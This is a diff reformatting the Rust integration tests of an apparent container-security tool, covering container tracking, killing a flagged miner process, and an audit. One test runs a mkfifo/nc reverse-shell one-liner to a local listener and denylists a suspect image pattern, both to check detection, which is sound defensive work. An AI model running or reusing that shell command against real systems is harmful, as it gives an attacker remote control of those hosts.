@@ -20,17 +20,8 @@ fn socket() -> String {
 
 fn docker(args: &[&str]) -> String {
     let host = format!("unix://{}", socket());
-    let out = Command::new("docker")
-        .arg("-H")
-        .arg(host)
-        .args(args)
-        .output()
-        .unwrap();
-    assert!(
-        out.status.success(),
-        "docker {args:?}: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    let out = Command::new("docker").arg("-H").arg(host).args(args).output().unwrap();
+    assert!(out.status.success(), "docker {args:?}: {}", String::from_utf8_lossy(&out.stderr));
     String::from_utf8(out.stdout).unwrap().trim().to_owned()
 }
 
@@ -53,10 +44,7 @@ fn follow() -> (Registry, Engine, Receiver<Notice>) {
     let (sender, notices) = sync_channel(1024);
     let engine = start(Settings::new(socket()), registry.clone(), sender).unwrap();
     let connected = notices.recv_timeout(WAIT).unwrap();
-    assert!(
-        matches!(connected, Notice::Connected { data_root: Some(_) }),
-        "{connected:?}"
-    );
+    assert!(matches!(connected, Notice::Connected { data_root: Some(_) }), "{connected:?}");
     (registry, engine, notices)
 }
 
@@ -78,50 +66,25 @@ fn until<T>(registry: &Registry, mut what: impl FnMut() -> Option<T>) -> T {
 fn a_container_is_completed_renamed_and_its_culprit_killed() {
     let (registry, _engine, notices) = follow();
     let label = "bulkhead.mode=protect";
-    let started = run(&[
-        "--name",
-        "bulkhead-live",
-        "--label",
-        label,
-        IMAGE,
-        "sh",
-        "-c",
-        "sleep 300 & wait; sleep 301",
-    ]);
+    let started = run(&["--name", "bulkhead-live", "--label", label, IMAGE, "sh", "-c", "sleep 300 & wait; sleep 301"]);
     let key = until(&registry, || registry.key_of_id(&started.0));
-    let view = until(&registry, || {
-        Some(registry.view(key)).filter(|v| v.complete)
-    });
-    assert_eq!(
-        (
-            view.name.as_str(),
-            view.image.as_str(),
-            view.runtime.as_str()
-        ),
-        ("bulkhead-live", IMAGE, "docker")
-    );
+    let view = until(&registry, || Some(registry.view(key)).filter(|v| v.complete));
+    assert_eq!((view.name.as_str(), view.image.as_str(), view.runtime.as_str()), ("bulkhead-live", IMAGE, "docker"));
     assert_eq!(view.labels["bulkhead.mode"], "protect");
     assert!(view.digest.starts_with("sha256:"));
     // A notice comes only if the cgroup was known before the metadata was complete.
     let told: Vec<Notice> = notices.try_iter().collect();
-    assert!(
-        told.iter().all(|n| *n == Notice::Completed(key)),
-        "{told:?}"
-    );
+    assert!(told.iter().all(|n| *n == Notice::Completed(key)), "{told:?}");
 
     docker(&["rename", "bulkhead-live", "bulkhead-renamed"]);
-    until(&registry, || {
-        (registry.view(key).name == "bulkhead-renamed").then_some(())
-    });
+    until(&registry, || (registry.view(key).name == "bulkhead-renamed").then_some(()));
 
     // Its second process is the culprit; its init survives.
     let events = crate::startup::scan(&registry, &|_, _| 0, false).unwrap();
     let inside: Vec<&Event> = events.iter().filter(|e| e.container == key).collect();
     assert_eq!(inside.len(), 2, "sh and sleep");
     let culprit = inside[1].process;
-    let Body::Exec(exec) = &inside[1].body else {
-        panic!("not an exec")
-    };
+    let Body::Exec(exec) = &inside[1].body else { panic!("not an exec") };
     assert_eq!(exec.args, ["sleep", "300"]);
     let rules = Rules {
         default_mode: Mode::Monitor,
@@ -131,42 +94,15 @@ fn a_container_is_completed_renamed_and_its_culprit_killed() {
     let detection = Detection::new(FindingKind::Miner, culprit, "test");
     let init = inside[0].process;
     let outcome = crate::respond::act(&rules, &registry, inside[1], &detection, &[init]);
-    assert_eq!(
-        outcome,
-        Outcome::Killed {
-            by: EnforcedBy::Pidfd,
-            processes: vec![culprit.tgid]
-        }
-    );
-    until(&registry, || {
-        std::fs::metadata(format!("/proc/{}/exe", culprit.tgid))
-            .is_err()
-            .then_some(())
-    });
-    assert!(
-        std::fs::metadata(format!("/proc/{}/exe", init.tgid)).is_ok(),
-        "init was no culprit"
-    );
+    assert_eq!(outcome, Outcome::Killed { by: EnforcedBy::Pidfd, processes: vec![culprit.tgid] });
+    until(&registry, || std::fs::metadata(format!("/proc/{}/exe", culprit.tgid)).is_err().then_some(()));
+    assert!(std::fs::metadata(format!("/proc/{}/exe", init.tgid)).is_ok(), "init was no culprit");
 
     // A process of the host is refused in the name of the same container.
-    let own = ProcessKey {
-        tgid: std::os::unix::process::parent_id(),
-        start_ns: 0,
-    };
-    let event = Event {
-        process: own,
-        verdict: Verdict::Observed,
-        reason: Reason::None,
-        rung: Rung::None,
-        ..inside[1].clone()
-    };
-    let outcome = crate::respond::act(
-        &rules,
-        &registry,
-        &event,
-        &Detection::new(FindingKind::Miner, own, "test"),
-        &[],
-    );
+    let own = ProcessKey { tgid: std::os::unix::process::parent_id(), start_ns: 0 };
+    let event =
+        Event { process: own, verdict: Verdict::Observed, reason: Reason::None, rung: Rung::None, ..inside[1].clone() };
+    let outcome = crate::respond::act(&rules, &registry, &event, &Detection::new(FindingKind::Miner, own, "test"), &[]);
     assert!(matches!(outcome, Outcome::Refused { .. }), "{outcome:?}");
 }
 
@@ -176,9 +112,7 @@ fn containers_from_before_and_containers_that_live_a_moment() {
     let before = run(&["--name", "bulkhead-before", IMAGE, "sleep", "300"]);
     let (registry, engine, _notices) = follow();
     let key = until(&registry, || registry.key_of_id(&before.0));
-    let view = until(&registry, || {
-        Some(registry.view(key)).filter(|v| v.complete)
-    });
+    let view = until(&registry, || Some(registry.view(key)).filter(|v| v.complete));
     assert_eq!(view.name, "bulkhead-before");
 
     let at_first = engine.stats().completed.load(Ordering::Relaxed);
@@ -187,18 +121,7 @@ fn containers_from_before_and_containers_that_live_a_moment() {
         let name = format!("bulkhead-short-{n}");
         let host = format!("unix://{}", socket());
         let mut child = Command::new("docker")
-            .args([
-                "-H",
-                &host,
-                "run",
-                "--rm",
-                "--network",
-                "none",
-                "--name",
-                &name,
-                IMAGE,
-                "true",
-            ])
+            .args(["-H", &host, "run", "--rm", "--network", "none", "--name", &name, IMAGE, "true"])
             .spawn()
             .unwrap();
         while child.try_wait().unwrap().is_none() {
@@ -208,23 +131,11 @@ fn containers_from_before_and_containers_that_live_a_moment() {
             std::thread::sleep(Duration::from_millis(1));
         }
     }
-    until(&registry, || {
-        (engine.stats().completed.load(Ordering::Relaxed) >= at_first + 10).then_some(())
-    });
-    assert_eq!(
-        named, 10,
-        "each is named when its cgroup appears: the engine announces it before"
-    );
-    assert_eq!(
-        engine.stats().inspections_dropped.load(Ordering::Relaxed),
-        0
-    );
+    until(&registry, || (engine.stats().completed.load(Ordering::Relaxed) >= at_first + 10).then_some(()));
+    assert_eq!(named, 10, "each is named when its cgroup appears: the engine announces it before");
+    assert_eq!(engine.stats().inspections_dropped.load(Ordering::Relaxed), 0);
     let listed = list_once(&Settings::new(socket())).unwrap();
-    assert!(
-        listed
-            .iter()
-            .any(|l| l.id == before.0 && l.running && l.metadata.complete)
-    );
+    assert!(listed.iter().any(|l| l.id == before.0 && l.running && l.metadata.complete));
 }
 
 /// A container made from a listed image under a mirror's name, in which a shell hangs on `nc`.
@@ -238,29 +149,15 @@ fn an_audit_finds_the_bad_image_and_the_shell_that_is_already_up() {
     let port = listener.local_addr().unwrap().port();
     let shell = format!("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 127.0.0.1 {port} > /tmp/f");
     let image = "mirror.local/docker123321/mysql5";
-    let started = Started(docker(&[
-        "run",
-        "-d",
-        "--network",
-        "host",
-        "--name",
-        "bulkhead-bad",
-        image,
-        "sh",
-        "-c",
-        &shell,
-    ]));
+    let started =
+        Started(docker(&["run", "-d", "--network", "host", "--name", "bulkhead-bad", image, "sh", "-c", &shell]));
     let _held = listener.accept().unwrap();
     std::thread::sleep(Duration::from_millis(300));
 
     let list = crate::container::denylist::Denylist::new(&["docker123321/*"], &[]).unwrap();
     let mut judge = |event: &Event, _: &Registry| match &event.body {
         Body::Exec(e) if e.flags & EXEC_RELAY != 0 => {
-            vec![Detection::new(
-                FindingKind::ReverseShell,
-                event.process,
-                "a shell behind a relay",
-            )]
+            vec![Detection::new(FindingKind::ReverseShell, event.process, "a shell behind a relay")]
         }
         _ => Vec::new(),
     };
@@ -277,26 +174,12 @@ fn an_audit_finds_the_bad_image_and_the_shell_that_is_already_up() {
         json: true,
     };
     let mut out = Vec::new();
-    assert_eq!(
-        crate::cli::audit::run(&mut audit, &mut out).unwrap(),
-        EXIT_FOUND
-    );
+    assert_eq!(crate::cli::audit::run(&mut audit, &mut out).unwrap(), EXIT_FOUND);
     let answer: serde_json::Value = serde_json::from_slice(&out).unwrap();
-    let findings: Vec<_> = answer["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|f| f["container"]["id"] == *started.0)
-        .collect();
+    let findings: Vec<_> =
+        answer["findings"].as_array().unwrap().iter().filter(|f| f["container"]["id"] == *started.0).collect();
     let kinds: Vec<_> = findings.iter().filter_map(|f| f["kind"].as_str()).collect();
     assert_eq!(kinds.len(), 2, "{answer:#}");
-    assert!(
-        kinds.contains(&"image_denylist") && kinds.contains(&"reverse_shell"),
-        "{answer:#}"
-    );
-    assert!(
-        findings
-            .iter()
-            .all(|f| f["container"]["name"] == "bulkhead-bad")
-    );
+    assert!(kinds.contains(&"image_denylist") && kinds.contains(&"reverse_shell"), "{answer:#}");
+    assert!(findings.iter().all(|f| f["container"]["name"] == "bulkhead-bad"));
 }
